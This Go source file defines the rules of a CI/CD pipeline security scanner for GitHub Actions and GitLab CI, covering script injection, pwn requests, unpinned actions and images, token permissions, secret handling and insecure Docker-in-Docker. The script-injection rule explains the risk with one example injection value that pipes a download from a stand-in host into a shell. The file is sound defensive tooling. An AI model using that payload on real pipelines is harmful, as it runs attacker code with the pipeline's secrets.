package pipelines

import "github.com/shiftward/shiftward/scanners"

var (
	_ scanners.RuleLister = (*Scanner)(nil)
	_ scanners.Explainer  = (*Scanner)(nil)
)

// rule is the static part of a finding: what is wrong, in general, how to
// fix it, and where to read about it. The message of each finding explains
// the instance.
type rule struct {
	id       string // without the "pipelines/" prefix
	severity scanners.Severity
	title    string
	// why says what the rule finds and why it matters; fix how to resolve
	// a finding and what shiftward's suggestion does, when it offers one.
	why, fix string
	// refs go on every finding; seeAlso (the audits of other tools that
	// find the same thing) only on the rule's description.
	refs, seeAlso []string
	files         []string
}

// File types the rules read.
const (
	ftWorkflow = "GitHub Actions workflow"
	ftAction   = "GitHub Actions composite action"
	ftGitLab   = "GitLab CI configuration"
)

// Reference documents, cited by the rules.
const (
	refHardening   = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
	refInjection   = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"
	refThirdParty  = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"
	refPermissions = "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"
	refPwnRequest  = "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
	refUntrusted   = "https://securitylab.github.com/resources/github-actions-untrusted-input/"
	refSelfHosted  = "https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security"
	refReusable    = "https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow"
	refGLInclude   = "https://docs.gitlab.com/ci/yaml/includes/"
	refGLImage     = "https://docs.gitlab.com/ci/yaml/#image"
	refGLDind      = "https://docs.gitlab.com/ci/docker/using_docker_build/#use-docker-in-docker"
	refGLVariables = "https://docs.gitlab.com/ci/variables/#cicd-variable-security"
	refGLPipeline  = "https://docs.gitlab.com/ci/pipeline_security/"

	zizmor     = "see also: zizmor audit "
	zizmorDocs = " (https://docs.zizmor.sh/audits/#"
	actionlint = "see also: actionlint check "
)

// seeZizmor names a zizmor audit with its documentation.
func seeZizmor(audit string) string { return zizmor + audit + zizmorDocs + audit + ")" }

// The rules. Ids are stable: they name findings in suppressions and in
// fingerprints, so a rule may be reworded but never renamed.
var (
	ruleScriptInjection = &rule{id: "script-injection", severity: scanners.SeverityHigh,
		title: "Untrusted input interpolated into a script",
		why: "GitHub replaces `${{ }}` expressions in a `run:` script (or in code an action evaluates, such as " +
			"`actions/github-script`'s `script:`) with their text before the script runs. When the text comes from an " +
			"outsider (an issue or pull request title, a comment, a branch name, a commit message), a value such as " +
			"`\"; curl evil.sh | sh; #` becomes code that runs with the job's token and secrets.",
		fix: "Pass the value through the step's `env:` and reference it as a quoted variable (`\"$ISSUE_TITLE\"`), so " +
			"the shell treats it as data. shiftward's suggestion does this when every moved value is a plain shell " +
			"word or an argument the command takes as data. Where the text around the expression is itself evaluated " +
			"or emitted as code (`eval`, `bash -c`, `python -c`, `ssh host \"...\"`, a sed/awk/jq program, a pipe into a " +
			"shell, a workflow command such as `echo \"::set-output ...\"`, a line written to `$GITHUB_ENV`, a heredoc " +
			"body), `$VAR` would be spliced into the same code, so no suggestion is offered and the finding says what " +
			"to do: let the evaluated code read the variable itself (inside single quotes for `bash -c`, " +
			"`os.environ[\"VAR\"]`, `process.env.VAR` in `actions/github-script`), or pass it as data.",
		refs:    []string{"CWE-94", "CWE-78", "OWASP CICD-SEC-4", refInjection, refUntrusted},
		seeAlso: []string{seeZizmor("template-injection"), seeZizmor("github-env"), actionlint + "expression (untrusted inputs, https://github.com/rhysd/actionlint/blob/main/docs/checks.md#untrusted-inputs)"},
		files:   []string{ftWorkflow, ftAction}}
	ruleUntrustedCheckout = &rule{id: "untrusted-checkout", severity: scanners.SeverityCritical,
		title: "Privileged workflow checks out pull request code",
		why: "`pull_request_target`, `workflow_run` and `issue_comment` workflows run with the base repository's secrets " +
			"and a token that can write to it, even for pull requests from forks. Checking out the pull request's " +
			"code there (`actions/checkout` with its head ref, `gh pr checkout`, `git fetch .../pull/N`) and then " +
			"building, testing or installing it runs attacker-controlled code with those privileges: a \"pwn request\".",
		fix: "Check out the base branch only in the privileged workflow, or move the work on the pull request's code to a " +
			"`pull_request` workflow without secrets and pass its results through an artifact that the privileged " +
			"workflow treats as data. No suggestion is offered: the right split depends on the workflow.",
		refs:    []string{"CWE-829", "CWE-94", "OWASP CICD-SEC-4", refPwnRequest, refHardening},
		seeAlso: []string{seeZizmor("dangerous-triggers")},
		files:   []string{ftWorkflow}}
	ruleUnpinnedAction = &rule{id: "unpinned-action", severity: scanners.SeverityMedium,
		title: "Action not pinned to a full commit SHA",
		why: "A tag or branch of a third-party action (or reusable workflow) can be moved to other code by whoever " +
			"controls that repository, or by an attacker who compromises it, as happened to tj-actions/changed-files " +
			"(CVE-2025-30066). The workflow then runs that code with its token and secrets, unreviewed.",
		fix: "Pin the action to the full 40-character commit SHA its tag names, keeping the tag as a comment " +
			"(`uses: owner/repo@<sha> # v4.1.0`) so update tools still follow it. shiftward's suggestion does this " +
			"when it could resolve the tag at review time.",
		refs:    []string{"CWE-829", "CWE-494", "OWASP CICD-SEC-3", refThirdParty, "CIS Software Supply Chain Security Guide 2.3.8"},
		seeAlso: []string{seeZizmor("unpinned-uses")},
		files:   []string{ftWorkflow, ftAction}}
	ruleExcessivePermissions = &rule{id: "excessive-permissions", severity: scanners.SeverityMedium,
		title: "GITHUB_TOKEN granted every write permission",
		why: "`permissions: write-all` gives the job's GITHUB_TOKEN write access to the code, releases, packages, " +
			"issues and more. Any step that is compromised or injected (a dependency, an action, a script injection) " +
			"can then push code or publish a release.",
		fix: "Grant the least the jobs need: `permissions: contents: read`, plus the write scopes a job uses, set on that " +
			"job. shiftward's suggestion replaces `write-all` with `contents: read`; add back what the jobs need.",
		refs:    []string{"CWE-250", "CWE-272", "OWASP CICD-SEC-5", refPermissions, refHardening},
		seeAlso: []string{seeZizmor("excessive-permissions")},
		files:   []string{ftWorkflow}}
	ruleMissingPermissions = &rule{id: "missing-permissions", severity: scanners.SeverityLow,
		title: "Workflow has no top-level permissions",
		why: "Without a `permissions:` block, jobs get the repository's or organisation's default token permissions, " +
			"which are read-write everywhere in older settings. A compromised step then holds more than the job needs.",
		fix: "Add a top-level `permissions:` block granting `contents: read`, and grant further scopes per job. " +
			"shiftward's suggestion adds `permissions: contents: read` after `on:`.",
		refs:    []string{"CWE-250", "OWASP CICD-SEC-5", refPermissions, "CIS Software Supply Chain Security Guide 1.5.2"},
		seeAlso: []string{seeZizmor("excessive-permissions")},
		files:   []string{ftWorkflow}}
	ruleSecretsToUnpinned = &rule{id: "secrets-to-unpinned-action", severity: scanners.SeverityHigh,
		title: "Secret passed to an unpinned third-party action",
		why: "A secret given to an action referenced by a tag or branch goes to whatever code that ref points at when " +
			"the job runs; if the ref is moved, the secret leaks (CVE-2025-30066).",
		fix:     "Pin the action to a full commit SHA (see unpinned-action), and pass it only the secrets it needs.",
		refs:    []string{"CWE-829", "CWE-522", "OWASP CICD-SEC-6", refThirdParty},
		seeAlso: []string{seeZizmor("unpinned-uses")},
		files:   []string{ftWorkflow, ftAction}}
	ruleSecretsInherit = &rule{id: "secrets-inherit", severity: scanners.SeverityMedium,
		title: "Every secret inherited by another repository's workflow",
		why: "`secrets: inherit` hands every secret of this repository to the called reusable workflow. When it lives " +
			"in another repository, whoever can change it can read them all.",
		fix:     "List only the secrets the called workflow needs under `secrets:`, by name, and pin it to a commit.",
		refs:    []string{"CWE-522", "CWE-829", "OWASP CICD-SEC-6", refReusable},
		seeAlso: []string{seeZizmor("secrets-inherit")},
		files:   []string{ftWorkflow}}
	ruleSelfHostedPR = &rule{id: "self-hosted-pr", severity: scanners.SeverityMedium,
		title: "Self-hosted runner runs pull request code",
		why: "A workflow that runs on pull requests lets anyone who can open one (anyone, in a public repository) run " +
			"code on its runner. A self-hosted runner usually persists between jobs and sits in an internal network: " +
			"the code can plant a backdoor, read later jobs' secrets or reach other machines.",
		fix: "Run pull request jobs on GitHub-hosted runners, or on ephemeral, isolated self-hosted runners, and require " +
			"approval before workflows run for outside contributors.",
		refs:    []string{"CWE-829", "CWE-693", "OWASP CICD-SEC-7", refSelfHosted},
		seeAlso: []string{seeZizmor("self-hosted-runner")},
		files:   []string{ftWorkflow}}
	ruleCurlPipeShell = &rule{id: "curl-pipe-shell", severity: scanners.SeverityMedium,
		title: "Remote script piped into a shell",
		why: "`curl ... | sh` runs whatever the server returns at that moment, unreviewed and unverified: a compromised " +
			"server, DNS or mirror runs code in the pipeline with its secrets.",
		fix: "Download the script to a file, check its checksum or signature against a pinned value, then run it; or use " +
			"a pinned package, action or image instead.",
		refs:  []string{"CWE-494", "CWE-829", "OWASP CICD-SEC-9", refGLPipeline},
		files: []string{ftWorkflow, ftAction, ftGitLab}}

	ruleGLUnpinnedImage = &rule{id: "gitlab-unpinned-image", severity: scanners.SeverityMedium,
		title: "CI image not pinned",
		why: "A job or service image without a version runs whatever `latest` is that day, and one pinned by tag only " +
			"runs whatever the tag is pushed to: builds stop being reproducible, and a compromised image runs with " +
			"the job's CI_JOB_TOKEN and variables.",
		fix:     "Pin a version tag and its digest (`image: name:tag@sha256:...`).",
		refs:    []string{"CWE-829", "CWE-494", "OWASP CICD-SEC-3", refGLImage, "CIS Docker Benchmark 4.7"},
		seeAlso: []string{seeZizmor("unpinned-images")},
		files:   []string{ftGitLab}}
	ruleGLRemoteInclude = &rule{id: "gitlab-remote-include", severity: scanners.SeverityMedium,
		title: "CI configuration included from a mutable source",
		why: "An `include:` of a remote URL, of another project without a `ref:` or at a branch or tag, or of a CI/CD " +
			"component at `~latest` or a version, runs whatever that source holds when the pipeline starts: whoever " +
			"can change it changes this pipeline, with its variables and CI_JOB_TOKEN.",
		fix: "Vendor remote files into the repository (`include: local:`) or add `integrity: sha256-...`; pin project " +
			"includes and components to a full commit SHA.",
		refs:  []string{"CWE-829", "CWE-494", "OWASP CICD-SEC-3", refGLInclude},
		files: []string{ftGitLab}}
	ruleGLSecretEcho = &rule{id: "gitlab-secret-echo", severity: scanners.SeverityHigh,
		title: "Secret printed to the job log",
		why: "A script line that echoes or prints a secret variable writes it to the job log, readable by everyone who " +
			"can see the pipeline. GitLab masks a variable only when it is marked masked and printed exactly as " +
			"stored; encoded, partial or unmasked values appear in clear.",
		fix:   "Remove the print, or pipe the value into the command that needs it (`--password-stdin`).",
		refs:  []string{"CWE-532", "CWE-200", "OWASP CICD-SEC-6", refGLVariables},
		files: []string{ftGitLab}}
	ruleGLDindNoTLS = &rule{id: "gitlab-dind-no-tls", severity: scanners.SeverityMedium,
		title: "Docker-in-Docker daemon without TLS",
		why: "With `DOCKER_TLS_CERTDIR: \"\"` or `DOCKER_HOST: tcp://...:2375`, the Docker-in-Docker service listens " +
			"without TLS: any container in the job's network can drive a privileged Docker daemon and escape to the " +
			"runner host.",
		fix: "Keep TLS on: `DOCKER_TLS_CERTDIR: \"/certs\"` with `DOCKER_HOST: tcp://docker:2376` (the default of recent " +
			"docker:dind images).",
		refs:  []string{"CWE-319", "CWE-306", "OWASP CICD-SEC-7", refGLDind, "CIS Docker Benchmark 2.6"},
		files: []string{ftGitLab}}
	ruleGLUntrustedVariable = &rule{id: "gitlab-untrusted-variable", severity: scanners.SeverityHigh,
		title: "Merge request text used unsafely in a script",
		why: "Predefined variables such as `CI_MERGE_REQUEST_TITLE`, `CI_COMMIT_MESSAGE` or `CI_COMMIT_REF_NAME` hold " +
			"text a merge request's author chooses. Expanded unquoted, the shell splits it into words and adds " +
			"options to the command (argument injection); inside `eval`, `sh -c` or an interpreter's `-c`/`-e` it " +
			"runs as code.",
		fix: "Quote it (`\"$CI_MERGE_REQUEST_TITLE\"`), and never put it inside code that is evaluated: pass it as an " +
			"argument or let the code read the environment. shiftward's suggestion quotes an unquoted use that is " +
			"not evaluated.",
		refs:  []string{"CWE-78", "CWE-88", "OWASP CICD-SEC-4", refGLPipeline, refGLVariables},
		files: []string{ftGitLab}}
)

// allRules lists the rules in the order they are documented.
var allRules = []*rule{ruleScriptInjection, ruleUntrustedCheckout, ruleUnpinnedAction, ruleExcessivePermissions,
	ruleMissingPermissions, ruleSecretsToUnpinned, ruleSecretsInherit, ruleSelfHostedPR, ruleCurlPipeShell,
	ruleGLUnpinnedImage, ruleGLRemoteInclude, ruleGLSecretEcho, ruleGLDindNoTLS, ruleGLUntrustedVariable}

// Rules lists every rule the scanner can report, in the one rule model.
// The slices are copies: a caller may change them.
func (*Scanner) Rules() []scanners.Rule {
	out := make([]scanners.Rule, len(allRules))
	for i, r := range allRules {
		out[i] = scanners.Rule{
			ID: Name + "/" + r.id, Severity: r.severity, Title: r.title, Why: r.why, Fix: r.fix,
			References: append(append([]string(nil), r.refs...), r.seeAlso...),
			FileTypes:  append([]string(nil), r.files...),
		}
	}
	return out
}

// Explain describes a rule by id ("pipelines/script-injection"), for
// `/shiftward explain`; it reads Rules.
func (s *Scanner) Explain(ruleID string) (scanners.RuleDoc, bool) {
	return scanners.ExplainFrom(s.Rules(), ruleID)
}
